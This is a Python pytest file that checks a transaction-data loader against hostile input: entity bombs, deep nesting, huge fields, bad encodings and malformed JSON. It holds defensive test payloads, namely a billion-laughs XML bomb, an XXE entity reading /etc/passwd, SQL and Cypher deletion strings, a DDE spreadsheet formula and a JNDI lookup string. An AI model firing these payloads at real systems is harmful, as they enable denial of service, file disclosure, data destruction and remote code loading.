"""Hostile input is harmless: entity bombs, external entities, huge fields, bad encodings."""

from __future__ import annotations

import gzip
import io

import pytest

from engine.core.errors import InputError
from loaders.base import MAX_FIELD_BYTES
from loaders.quarantine import export_rejected
from loaders.registry import load_file

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<report><transaction><transactionnumber>&lol3;</transactionnumber></transaction></report>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>
<Ntry><AcctSvcrRef>&secret;</AcctSvcrRef></Ntry></Stmt></BkToCstmrStmt></Document>
"""
TX_HEADER = "tx_id,ts,src_account,dst_account,amount,currency\n"


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE])
def test_entity_declarations_are_refused_before_parsing(write, document):
    with pytest.raises(InputError, match="DOCTYPE"):
        load_file(write("evil.xml", document), batch_id="b")


def test_forced_format_still_refuses_entities(write):
    with pytest.raises(InputError, match="DOCTYPE"):
        load_file(write("evil.txt", BILLION_LAUGHS), format="goaml", batch_id="b")


def test_deep_nesting_and_huge_text_nodes_stop_with_an_input_error(write):
    deep = "<report>" + "<a>" * 5000 + "</a>" * 5000 + "</report>"
    with pytest.raises(InputError, match="not well-formed"):
        load_file(write("deep.xml", deep), batch_id="b")
    huge = "<report><transaction><transactionnumber>" + "x" * 11_000_000
    huge += "</transactionnumber></transaction></report>"
    with pytest.raises(InputError, match=r"huge\.xml"):
        load_file(write("huge.xml", huge), batch_id="b")


def test_long_xml_field_is_quarantined_not_loaded(write):
    xml = (
        "<report><transaction><transactionnumber>" + "x" * (MAX_FIELD_BYTES + 1) +
        "</transactionnumber><date_transaction>2024-01-01</date_transaction>"
        "<amount_local>1</amount_local><t_from><from_account><iban>A</iban></from_account>"
        "</t_from><t_to><to_account><iban>B</iban></to_account></t_to></transaction></report>"
    )  # fmt: skip
    result = load_file(write("long.xml", xml), batch_id="b")
    assert result.tables["transactions"].num_rows == 0
    (bad,) = result.rejected.to_pylist()
    assert (bad["field"], bad["reason"]) == ("tx_id", "value too long")
    assert len(bad["value"]) == 200  # truncated in the quarantine


def test_huge_csv_field_and_huge_line(write):
    long_id = "x" * (MAX_FIELD_BYTES + 10)
    text = (
        TX_HEADER + f"{long_id},2024-01-01T00:00:00Z,A,B,1,EUR\nt2,2024-01-01T00:00:00Z,A,B,1,EUR\n"
    )
    result = load_file(write("transactions.csv", text), batch_id="b")
    assert result.tables["transactions"]["tx_id"].to_pylist() == ["t2"]
    assert result.rejected["reason"].to_pylist() == ["value too long"]
    line = "t1,2024-01-01T00:00:00Z,A," + "B" * (9 << 20) + ",1,EUR\n"
    big = load_file(write("big/transactions.csv", TX_HEADER + line), batch_id="b")
    assert big.rejected.select(["row", "field", "reason"]).to_pylist() == [
        {"row": 1, "field": "dst_account", "reason": "value too long"}
    ]


def test_injection_looking_names_are_stored_verbatim_and_exported_safely(write):
    names = [
        "Robert'); DROP TABLE parties;--",
        "MATCH (n) DETACH DELETE n",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://x/a}",
    ]
    text = "party_id,name\n" + "".join(f'p{i},"{n}"\n' for i, n in enumerate(names))
    result = load_file(write("parties.csv", text), batch_id="b")
    assert result.tables["parties"]["name"].to_pylist() == names
    # The quarantine export never lets a spreadsheet evaluate a rejected cell.
    bad = load_file(
        write("transactions.csv", TX_HEADER + "=1+1,2024-01-01T00:00:00Z,A,B,x,EUR\n"),
        batch_id="b",
    )
    out = io.StringIO()
    export_rejected(bad.rejected, out)
    assert "'x" not in out.getvalue() and '"x"' in out.getvalue()


def test_latin1_file_without_mapping_is_read_as_latin1_with_a_note(write):
    text = "party_id,name,city\np1,José Müller,Zürich\n"
    result = load_file(write("parties.csv", text.encode("latin-1")), batch_id="b")
    assert result.tables["parties"]["name"].to_pylist() == ["José Müller"]
    assert any("Latin-1" in note for note in result.notes)


def test_declared_utf8_with_bad_bytes_quarantines_those_rows(write):
    data = "party_id,name\np1,Ana\np2,Jos\xe9\n".encode("latin-1")
    mapping = write("m.toml", "encoding = 'utf-8'\n")
    result = load_file(write("parties.csv", data), mapping=mapping, batch_id="b")
    assert result.tables["parties"]["name"].to_pylist() == ["Ana"]
    (bad,) = result.rejected.to_pylist()
    assert (bad["row"], bad["field"]) == (2, "name")
    assert bad["reason"].startswith("not valid UTF-8")


def test_utf16_and_binary_files_are_refused(write):
    with pytest.raises(InputError, match="binary"):
        load_file(write("parties.csv", "party_id,name\n".encode("utf-16")), batch_id="b")
    with pytest.raises(InputError, match="Parquet"):
        load_file(write("parties.parquet", b"PAR1 not really"), batch_id="b")


def test_compressed_csv_and_jsonl(write):
    data = gzip.compress((TX_HEADER + "t1,2024-01-01T00:00:00Z,A,B,1,EUR\n").encode())
    assert (
        load_file(write("transactions.csv.gz", data), batch_id="b").tables["transactions"].num_rows
        == 1
    )
    lines = (
        '{"tx_id": "t1", "ts": "2024-01-01T00:00:00Z", "src_account": "A", "dst_account": "B",'
        ' "amount": 5, "currency": "EUR", "reference": {"nested": [1, 2]}}\n'
        "not json\n"
        "[1, 2]\n"
        "\n"
        '{"tx_id": "t2", "ts": "2024-01-01T00:00:00Z", "src_account": "A", "dst_account": "B",'
        ' "amount": true, "currency": "EUR"}\n'
    )
    result = load_file(write("transactions.jsonl", lines), batch_id="b")
    (tx,) = result.tables["transactions"].to_pylist()
    assert (tx["amount"], tx["reference"]) == (5.0, '{"nested": [1, 2]}')
    reasons = result.rejected.sort_by("row")["reason"].to_pylist()
    assert reasons[0].startswith("invalid JSON")
    assert reasons[1:] == ["not a JSON object", "not a number"]
    assert result.rejected.sort_by("row")["row"].to_pylist() == [2, 3, 4]


def test_a_file_of_mostly_garbage_is_refused_not_quarantined_forever(write, monkeypatch):
    import loaders.base

    monkeypatch.setattr(loaders.base, "MAX_REJECTED_ROWS", 5)
    rows = "".join(f"t{i},never,A,B,1,EUR\n" for i in range(10))
    with pytest.raises(InputError, match=r"more than 5 rows rejected.*not a date and time"):
        load_file(write("transactions.csv", TX_HEADER + rows), batch_id="b")
    ragged = "".join(f"t{i},x\n" for i in range(10))
    with pytest.raises(InputError, match="expected 6 fields"):
        load_file(write("r/transactions.csv", TX_HEADER + ragged), batch_id="b")


def test_json_array_is_refused_with_a_hint(write):
    with pytest.raises(InputError, match="JSON Lines"):
        load_file(write("export.json", '[{"a": 1},\n {"a": 2}]'), batch_id="b")


def test_a_long_comment_does_not_hide_a_doctype(write):
    """A regular expression over the first 64 KiB missed a DOCTYPE after a 70 KB comment that
    itself looked like it held the root element (issue 17, item 8)."""
    hidden = '<?xml version="1.0"?><!-- <report> ' + "x" * 70_000 + " -->\n" + BILLION_LAUGHS[22:]
    assert "<!DOCTYPE" in hidden and hidden.index("<!DOCTYPE") > 65_536
    for fmt in ("auto", "goaml"):
        with pytest.raises(InputError, match="DOCTYPE"):
            load_file(write("hidden.xml", hidden), format=fmt, batch_id="b")


def test_a_long_comment_before_a_real_report_is_fine(write):
    from tests.loaders.goaml_sample import GOAML

    body = GOAML.split("?>", 1)[1]
    text = '<?xml version="1.0"?>\n<!-- ' + "note " * 20_000 + "-->\n<?pi x?>" + body
    result = load_file(write("long-comment.xml", text), format="goaml", batch_id="b")
    assert result.tables["transactions"].num_rows > 0


def test_an_element_with_100k_attributes_is_refused_at_once(write):
    """lxml copies attributes in quadratic time: 100k of them took minutes (issue 17, 8)."""
    attributes = " ".join(f'a{i}="1"' for i in range(100_000))
    xml = f"<report><transaction {attributes}><transactionnumber>t</transactionnumber>"
    xml += "</transaction></report>"
    with pytest.raises(InputError, match=r"100,000 attributes") as caught:
        load_file(write("attrs.xml", xml), batch_id="b")
    assert caught.value.file == "attrs.xml" and caught.value.row == 1


def test_one_latin1_byte_does_not_turn_a_utf8_file_into_mojibake(write):
    """The whole file used to be read again as Latin-1, so every UTF-8 name became 'JosÃ©'
    (issue 17, item 10); now only the row that is not UTF-8 is read as Latin-1."""
    utf8 = "party_id,name,city\np1,José Müller,Zürich\np2,Łukasz Żak,Łódź\n".encode()
    stray = "p3,Renée,Genève\n".encode("latin-1")
    result = load_file(write("parties.csv", utf8 + stray + "p4,Ana,Köln\n".encode()), batch_id="b")
    names = result.tables["parties"]["name"].to_pylist()
    assert names == ["José Müller", "Łukasz Żak", "Renée", "Ana"]
    assert result.tables["parties"]["city"].to_pylist()[-1] == "Köln"
    assert result.rejected.num_rows == 0
    assert any("1 rows are not UTF-8" in note and "Latin-1" in note for note in result.notes)
